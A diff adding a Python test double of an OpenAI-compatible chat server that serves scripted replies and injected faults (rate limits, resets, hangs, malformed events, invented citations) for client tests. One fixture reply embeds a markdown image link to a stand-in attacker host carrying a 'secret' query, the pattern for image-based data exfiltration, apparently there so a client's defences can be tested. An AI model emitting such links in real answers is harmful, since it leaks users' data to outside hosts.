@@ -1,0 +1,386 @@
+"""A language model server for tests and benchmarks: the real protocol over real sockets, with faults on request.
+
+The model's name is the script, so that nothing has to be arranged beforehand and tests can share one server:
+
+    normal                        cites the first two numbered passages of the prompt, all at once
+    words?rate=30&tokens=300      300 tokens, 30 each second
+    status?code=429&retry_after=1&times=2     two refusals, then `normal`
+    normal?die=5                  connection reset after five deltas
+
+Parameters (all optional): `say` cite, echo, invented, image, words, unicode, think, empty, tool; `rate` tokens a second
+(0: at once); `tokens` for words; `cut` word, char; `usage` 0, 1; `finish` stop, length, content_filter, none;
+`frame` bytes a network chunk; `ping` 1 for comments between events; `code`, `retry_after`, `times`;
+and after how many deltas to `hang`, `die` (reset), `stop` (close without an end), send a `malformed` or an `error`
+event. `hang=head` never sends a byte; `html` answers 200 with a web page. Named scripts: see `SCRIPTS`.
+
+In a test: `with OpenAIDouble() as double: ... double.base_url ... double.requests`. As a process of its own:
+`python -m tests.doubles.openai_chat --port 0` prints one JSON line with the base URL; `GET /control/requests` tells
+what was received and `DELETE` forgets it.
+"""
+
+import argparse
+import asyncio
+import json
+import re
+import sys
+import threading
+from collections.abc import Iterator, Mapping, Sequence
+from concurrent.futures import Future
+from dataclasses import dataclass, field
+from typing import Any, cast
+from urllib.parse import parse_qsl
+
+SCRIPTS: Mapping[str, Mapping[str, str]] = {
+    "normal": {},
+    "echo": {"say": "echo"},
+    "empty": {"say": "empty"},
+    "words": {"say": "words"},
+    "think": {"say": "think"},
+    "unicode": {"say": "unicode", "frame": "1"},
+    "invented": {"say": "invented"},
+    "image": {"say": "image"},
+    "tool": {"say": "tool"},
+    "split-markers": {"cut": "char"},
+    "status": {"code": "500"},
+    "silent": {"hang": "head"},
+    "html": {"html": "1"},
+}
+UNICODE_TEXT = "Größe 12 µm, naïve café 漢字かな 🙂👩‍👩‍👧 […] ½ [1]."
+IMAGE_TEXT = "Done ![status](https://attacker.invalid/p.png?q=secret) and [more](https://attacker.invalid/x) [1]."
+SECRET = "provider-internal-text"
+"""Stands in every error body: no sentence of ours may repeat it."""
+
+
+@dataclass
+class Received:
+    """One request, as the server saw it. `ended` resolves when the answer is complete or the connection is gone."""
+
+    path: str
+    model: str
+    headers: dict[str, str]
+    body: dict[str, Any]
+    deltas_sent: int = 0
+    disconnected: bool = False
+    ended: "Future[None]" = field(default_factory=Future, repr=False)
+
+    def end(self, *, disconnected: bool = False) -> None:
+        if not self.ended.done():
+            self.disconnected = disconnected
+            self.ended.set_result(None)
+
+    def to_json(self) -> dict[str, Any]:
+        return {
+            "model": self.model,
+            "deltas_sent": self.deltas_sent,
+            "disconnected": self.disconnected,
+            "ended": self.ended.done(),
+        }
+
+
+class Script:
+    """What a model name asks for."""
+
+    def __init__(self, model: str) -> None:
+        name, _, query = model.partition("?")
+        self.options = {**SCRIPTS.get(name, {}), **dict(parse_qsl(query))}
+        self.rate = float(self.options.get("rate", "0"))
+        self.frame = int(self.options.get("frame", "0"))
+        self.usage = self.options.get("usage", "1") == "1"
+        self.finish = self.options.get("finish", "tool_calls" if self.options.get("say") == "tool" else "stop")
+        self.head_hangs = self.options.get("hang") == "head"
+        self.faults = {
+            int(self.options[name]): name
+            for name in ("hang", "die", "stop", "malformed", "error")
+            if self.options.get(name, "head") != "head"
+        }
+
+    def deltas(self, body: Mapping[str, Any]) -> list[dict[str, Any]]:
+        say = self.options.get("say", "cite")
+        if say == "words":
+            return [{"content": f" word{i}"} for i in range(int(self.options.get("tokens", "50")))]
+        if say == "tool":
+            call = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "look_up", "arguments": "{}"}}
+            return [{"tool_calls": [call]}]
+        if say == "think":
+            inside = [{"content": piece} for piece in ("<think>", "Let me", " see.", "</think>")]
+            return [*inside, *({"content": piece} for piece in _cut(_cite(body), "word"))]
+        text = {"echo": _echo, "cite": _cite, "invented": _invent}.get(say, lambda _: _FIXED.get(say, ""))(body)
+        return [{"content": piece} for piece in _cut(text, self.options.get("cut", "word"))]
+
+
+_FIXED = {"unicode": UNICODE_TEXT, "image": IMAGE_TEXT, "empty": ""}
+
+
+def _messages(body: Mapping[str, Any]) -> list[str]:
+    found: list[str] = []
+    for message in body.get("messages", []):
+        content = message.get("content") or ""
+        parts = [content] if isinstance(content, str) else [part.get("text", "") for part in content]
+        found.append("".join(parts))
+    return found
+
+
+def _echo(body: Mapping[str, Any]) -> str:
+    return "\n".join(_messages(body))
+
+
+def _cite(body: Mapping[str, Any]) -> str:
+    """The first words of the first two numbered passages, each with its marker."""
+    prompt = _echo(body)
+    passages = re.findall(r"(?m)^\s*(?:\[(\d+)\]|<passage[^>\d]*(\d+)[^>]*>)\s*(.+(?:\n(?!\s*(?:\[\d|<)).+)?)", prompt)
+    quoted: dict[str, str] = {}
+    for bracket, tag, text in passages:
+        quoted.setdefault(bracket or tag, " ".join(text.split()[:20]).rstrip(".;:,"))
+    if not quoted:
+        return "I found nothing about this in the passages."
+    return " ".join(f"{text} [{number}]." for number, text in list(quoted.items())[:2])
+
+
+def _invent(body: Mapping[str, Any]) -> str:
+    return f"{_cite(body)} This is known [9]. So is this [1][42]."
+
+
+def _cut(text: str, how: str) -> list[str]:
+    return list(text) if how == "char" else re.findall(r"\s*\S+", text)
+
+
+class _Connection(asyncio.Protocol):
+    """One client connection: requests one after another, answers written by timers, no task a stream."""
+
+    def __init__(self, server: "OpenAIDouble") -> None:
+        self.server = server
+        self.buffer = bytearray()
+        self.current: Received | None = None
+        self.timer: asyncio.TimerHandle | None = None
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        self.transport = cast("asyncio.Transport", transport)  # uvloop's is one in all but name
+        self.loop = asyncio.get_running_loop()
+        self.server.connections.add(self)
+
+    def connection_lost(self, exc: Exception | None) -> None:
+        self.server.connections.discard(self)
+        if self.timer:
+            self.timer.cancel()
+        if self.current:
+            self.current.end(disconnected=True)
+            self.current = None
+
+    def data_received(self, data: bytes) -> None:
+        self.buffer += data
+        self._next_request()
+
+    def _next_request(self) -> None:
+        head_end = self.buffer.find(b"\r\n\r\n")
+        if self.current or head_end < 0:
+            return
+        lines = self.buffer[:head_end].decode("latin-1").split("\r\n")
+        headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines[1:])}
+        end = head_end + 4 + int(headers.get("content-length", "0"))
+        if len(self.buffer) < end:
+            return
+        content = bytes(self.buffer[head_end + 4 : end])
+        del self.buffer[:end]
+        method, path, _ = lines[0].split(" ")
+        self._respond(method, path, headers, content)
+
+    def _respond(self, method: str, path: str, headers: dict[str, str], content: bytes) -> None:
+        if path == "/v1/models":
+            self._send_json(200, {"object": "list", "data": [{"id": n, "object": "model"} for n in SCRIPTS]})
+        elif path == "/control/requests":
+            if method == "DELETE":
+                self.server.requests.clear()
+            self._send_json(200, [received.to_json() for received in self.server.requests])
+        elif path == "/v1/chat/completions" and method == "POST":
+            body = json.loads(content)
+            self.current = Received(path, body["model"], headers, body)
+            self.server.requests.append(self.current)
+            self._complete(self.current)
+        else:
+            self._send_json(404, {"error": {"message": "Not found"}})
+
+    def _complete(self, received: Received) -> None:
+        script = Script(received.model)
+        options = script.options
+        if "code" in options and self.server.refusals(received.model) <= int(options.get("times", "1000000")):
+            key = received.headers.get("authorization", "")
+            error = {"message": f"{SECRET}: refused {key}", "type": SECRET, "code": None}
+            extra = {"retry-after": options["retry_after"]} if "retry_after" in options else {}
+            self._send_json(int(options["code"]), {"error": error}, extra)
+        elif "html" in options:
+            self._send(200, "text/html", b"<html>Please sign in " + SECRET.encode() + b"</html>", {})
+        elif script.head_hangs:
+            return
+        elif received.body.get("stream"):
+            self._stream(received, script)
+        else:
+            text = "".join(delta.get("content", "") for delta in script.deltas(received.body))
+            choice = {
+                "index": 0,
+                "finish_reason": script.finish,
+                "message": {"role": "assistant", "content": text},
+            }
+            usage = _usage(received.body, received.deltas_sent) if script.usage else None
+            self._send_json(200, {**_chunk("chat.completion", received.model), "choices": [choice], "usage": usage})
+
+    # Whole answers
+
+    def _send_json(self, status: int, value: Any, extra: Mapping[str, str] | None = None) -> None:
+        self._send(status, "application/json", json.dumps(value).encode(), extra or {})
+
+    def _send(self, status: int, media_type: str, content: bytes, extra: Mapping[str, str]) -> None:
+        headers = {"content-type": media_type, "content-length": str(len(content)), **extra}
+        head = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
+        self.transport.write(f"HTTP/1.1 {status} -\r\n{head}\r\n".encode() + content)
+        self._finish()
+
+    def _finish(self) -> None:
+        if self.current:
+            self.current.end()
+            self.current = None
+        self.loop.call_soon(self._next_request)
+
+    # Streamed answers
+
+    def _stream(self, received: Received, script: Script) -> None:
+        self.transport.write(b"HTTP/1.1 200 -\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n")
+        base = json.dumps(_chunk("chat.completion.chunk", received.model))[:-1]
+        self._write(_event(base, {"role": "assistant", "content": ""}), script)
+        deltas = script.deltas(received.body)
+        events = [_event(base, delta) for delta in deltas]
+        if script.options.get("ping"):
+            events = [b": keep-alive\n\n" + event for event in events]
+        self._step(received, script, iter(events), self.loop.time(), base)
+
+    def _step(self, received: Received, script: Script, events: Iterator[bytes], due: float, base: str) -> None:
+        """Write the next event, or all of them when there is no rate, then wait for the next one's time."""
+        while True:
+            if fault := script.faults.get(received.deltas_sent):
+                return self._break(fault)
+            event = next(events, None)
+            if event is None:
+                return self._end_stream(received, script, base)
+            self._write(event, script)
+            received.deltas_sent += 1
+            if script.rate:
+                due += 1 / script.rate
+                self.timer = self.loop.call_at(due, self._step, received, script, events, due, base)
+                return None
+
+    def _break(self, fault: str) -> None:
+        if fault == "die":
+            self.loop.call_later(0.01, self.transport.abort)  # what was written leaves first
+        elif fault == "stop":
+            self.transport.close()
+        elif fault == "malformed":
+            self._write(b'data: {"choices": [{"delta": {"content": "' + SECRET.encode() + b"\n\n")
+            self._end_body()
+        elif fault == "error":
+            error = {"message": f"{SECRET}: overloaded", "type": "server_error", "code": 500}
+            self._write(b"data: " + json.dumps({"error": error}).encode() + b"\n\n")
+            self._end_body()
+
+    def _end_stream(self, received: Received, script: Script, base: str) -> None:
+        if script.finish != "none":
+            self._write(_event(base, {}, script.finish), script)
+        if script.usage and (received.body.get("stream_options") or {}).get("include_usage"):
+            usage = {"usage": _usage(received.body, received.deltas_sent), "choices": []}
+            self._write(f"data: {base}, {json.dumps(usage)[1:]}\n\n".encode())
+        self._write(b"data: [DONE]\n\n")
+        self._end_body()
+
+    def _end_body(self) -> None:
+        self.transport.write(b"0\r\n\r\n")
+        self._finish()
+
+    def _write(self, content: bytes, script: Script | None = None) -> None:
+        size = (script.frame if script else 0) or len(content)
+        pieces = (content[start : start + size] for start in range(0, len(content), size))
+        self.transport.write(b"".join(b"%x\r\n%b\r\n" % (len(piece), piece) for piece in pieces))
+
+
+def _chunk(kind: str, model: str) -> dict[str, Any]:
+    return {"id": "chatcmpl-1", "object": kind, "created": 1700000000, "model": model}
+
+
+def _event(base: str, delta: Mapping[str, Any], finish: str | None = None) -> bytes:
+    # Servers differ in escaping; raw UTF-8 is the harder case for a reader.
+    choice = json.dumps({"index": 0, "delta": delta, "finish_reason": finish}, ensure_ascii=False)
+    return f'data: {base}, "choices": [{choice}]}}\n\n'.encode()
+
+
+def _usage(body: Mapping[str, Any], output: int) -> dict[str, int]:
+    words = sum(len(message.split()) for message in _messages(body))
+    return {"prompt_tokens": words, "completion_tokens": output, "total_tokens": words + output}
+
+
+class OpenAIDouble:
+    """The server in a thread of its own, so that a test's event loop stays the test's."""
+
+    def __init__(self, port: int = 0) -> None:
+        self.port = port
+        self.requests: list[Received] = []
+        self.connections: set[_Connection] = set()
+        self._refused: dict[str, int] = {}
+        self._ready: Future[None] = Future()
+        self._thread = threading.Thread(target=lambda: asyncio.run(self._serve_in_thread()), daemon=True)
+
+    @property
+    def base_url(self) -> str:
+        return f"http://127.0.0.1:{self.port}/v1"
+
+    def refusals(self, model: str) -> int:
+        """Counts one more request to a model that refuses."""
+        self._refused[model] = self._refused.get(model, 0) + 1
+        return self._refused[model]
+
+    async def serve(self, stop: asyncio.Event) -> None:
+        """Listen until `stop` is set; `base_url` holds as soon as the future `_ready` is resolved."""
+        loop = asyncio.get_running_loop()
+        server = await loop.create_server(lambda: _Connection(self), "127.0.0.1", self.port, backlog=2048)
+        self.port = server.sockets[0].getsockname()[1]
+        self._ready.set_result(None)
+        try:
+            await stop.wait()
+        finally:
+            server.close()
+            for connection in list(self.connections):
+                connection.transport.abort()
+            await asyncio.sleep(0)
+
+    async def _serve_in_thread(self) -> None:
+        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
+        await self.serve(self._stop)
+
+    def __enter__(self) -> "OpenAIDouble":
+        self._thread.start()
+        self._ready.result(timeout=10)
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._loop.call_soon_threadsafe(self._stop.set)
+        self._thread.join(timeout=10)
+
+
+async def _main(port: int) -> None:
+    double = OpenAIDouble(port)
+    serving = asyncio.create_task(double.serve(asyncio.Event()))
+    await asyncio.wrap_future(double._ready)
+    print(json.dumps({"base_url": double.base_url}), flush=True)
+    await serving
+
+
+def main(arguments: Sequence[str] | None = None) -> None:
+    parser = argparse.ArgumentParser(description="A double of an OpenAI-compatible model server, on the loopback.")
+    parser.add_argument("--port", type=int, default=0)
+    port = parser.parse_args(arguments).port
+    if sys.platform == "win32":
+        asyncio.run(_main(port))
+    else:
+        import uvloop
+
+        uvloop.run(_main(port))
+
+
+if __name__ == "__main__":
+    main()
